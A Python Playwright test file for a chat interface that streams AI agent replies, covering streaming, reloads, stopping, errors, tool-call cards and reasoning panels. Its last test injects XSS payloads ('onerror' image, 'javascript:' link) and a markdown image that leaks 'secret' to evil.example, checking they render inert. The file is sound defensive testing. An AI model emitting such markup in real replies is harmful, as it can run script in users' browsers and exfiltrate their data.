from __future__ import annotations

from playwright.sync_api import expect

from tests.browser.fixtures import Chat
from tests.servers.upstream import ScriptedUpstream


def test_tokens_appear_one_by_one(scripted: ScriptedUpstream, scripted_chat: Chat) -> None:
    scripted_chat.start("Count")
    reply = scripted.next_reply()
    for number in ("one", "two", "three"):
        reply.say(f"{number} ")
        expect(scripted_chat.reply).to_contain_text(number)
        expect(scripted_chat.reply).to_have_attribute("data-state", "streaming")
    scripted.store_reply(reply)
    reply.end()

    scripted_chat.expect_state("done")
    expect(scripted_chat.reply).to_contain_text("one two three")


def test_a_watched_reply_and_a_reloaded_one_are_the_same_page(chat: Chat) -> None:
    chat.start("tour")
    chat.expect_state("done")
    watched = chat.html()
    assert len(watched) > 5_000

    chat.reload()

    assert chat.html() == watched


def test_a_page_loaded_in_the_middle_of_a_reply_ends_like_one_that_watched(chat: Chat) -> None:
    chat.start("tour")
    expect(chat.reply.locator("h3").first).to_be_visible()
    chat.reload()
    chat.expect_state("done")
    watched_late = chat.html()

    chat.reload()

    assert chat.html() == watched_late


def test_stop_ends_the_reply_and_keeps_its_text(
    scripted: ScriptedUpstream, scripted_chat: Chat
) -> None:
    scripted_chat.start("Talk")
    reply = scripted.next_reply()
    reply.say("As far as this", event_id="thought", kind="reasoning")
    expect(scripted_chat.reply).to_contain_text("As far as this")

    scripted_chat.page.get_by_role("button", name="Stop").click()

    scripted_chat.expect_state("stopped")
    expect(scripted_chat.reply.get_by_text("As far as this")).to_be_visible()
    assert reply.reader_left.wait(10)
    expect(scripted_chat.page.get_by_role("button", name="Send")).to_be_visible()
    watched = scripted_chat.html()
    scripted_chat.reload()
    assert scripted_chat.html() == watched


def test_an_error_is_shown_where_it_happened_and_the_chat_goes_on(chat: Chat) -> None:
    chat.start("error")
    chat.expect_state("failed")
    expect(chat.reply.locator(".problem")).to_be_visible()
    failed = chat.html()
    chat.reload()
    assert chat.html() == failed

    chat.send("hello again")

    chat.expect_state("done")
    expect(chat.reply).to_contain_text("hello again")


def test_a_tool_call_shows_its_arguments_and_its_result(chat: Chat) -> None:
    chat.start("tool")
    chat.expect_state("done")
    card = chat.reply.locator(".tool-call").first
    expect(card).to_contain_text("Called")

    card.locator("summary").click()

    expect(card.get_by_text("Arguments")).to_be_visible()
    expect(card.get_by_text("Result")).to_be_visible()


def test_arguments_of_a_tool_appear_as_they_are_written(
    scripted: ScriptedUpstream, scripted_chat: Chat
) -> None:
    scripted_chat.start("Search")
    reply = scripted.next_reply()
    call = {"type": "tool_call", "tool_call_id": "c1", "tool_name": "search", "args": []}
    reply.patch("call", {"op": "add", "path": "/tool_calls/0", "value": call})
    card = scripted_chat.reply.locator(".tool-call")
    summary = card.locator("summary")
    reply.patch("call", {"op": "add", "path": "/tool_calls/0/args/-", "value": '{"q": "green'})
    expect(summary).to_have_text("search q: green")
    summary.click()
    expect(card).to_contain_text('{"q": "green')
    reply.patch("call", {"op": "add", "path": "/tool_calls/0/args/-", "value": ' tea"}'})
    expect(card).to_contain_text('tea"')
    expect(summary).to_have_text("search q: green tea")
    result = {"tool_call_id": "c1", "tool_name": "search", "args": {}, "data": {"result": "hot"}}
    reply.patch("result", {"op": "add", "path": "/tool_call_results/0", "value": result})

    expect(card).to_contain_text("hot")
    assert card.get_attribute("open") is not None, "what the reader opened stays open"
    reply.end()
    scripted_chat.expect_state("done")


def test_reasoning_is_open_while_it_is_written_and_folds_away(
    scripted: ScriptedUpstream, scripted_chat: Chat
) -> None:
    scripted_chat.start("Think")
    reply = scripted.next_reply()
    reply.say("Let me see", event_id="thought", kind="reasoning")
    reasoning = scripted_chat.reply.locator("details.reasoning")
    expect(reasoning.get_by_text("Let me see")).to_be_visible()

    reply.say("Here it is")

    expect(reasoning.get_by_text("Let me see")).to_be_hidden()
    expect(scripted_chat.reply).to_contain_text("Here it is")
    reply.end()
    scripted_chat.expect_state("done")
    reasoning.locator("summary").click()
    expect(reasoning.get_by_text("Let me see")).to_be_visible()


def test_the_page_goes_on_by_itself_after_its_tab_was_reloaded_twice(chat: Chat) -> None:
    chat.start("hello")
    chat.expect_state("done")
    chat.reload()
    chat.reload()

    chat.send("and again")

    expect(chat.page.locator("article")).to_have_count(4)
    chat.expect_state("done")


def test_markup_of_an_agent_is_text_and_a_remote_image_is_a_link(
    scripted: ScriptedUpstream, scripted_chat: Chat
) -> None:
    scripted_chat.start("Attack")
    reply = scripted.next_reply()
    reply.say(
        "<img src=x onerror=alert(1)> <b hx-get=/x>bold</b>\n\n",
        "![a cat](https://evil.example/?q=secret)\n\n",
        "[click](javascript:alert(1))\n",
    )
    scripted.store_reply(reply)
    reply.end()

    scripted_chat.expect_state("done")
    expect(scripted_chat.reply.locator("img, b, [hx-get], [href^=javascript]")).to_have_count(0)
    link = scripted_chat.reply.get_by_role("link", name="a cat")
    expect(link).to_have_attribute("href", "https://evil.example/?q=secret")
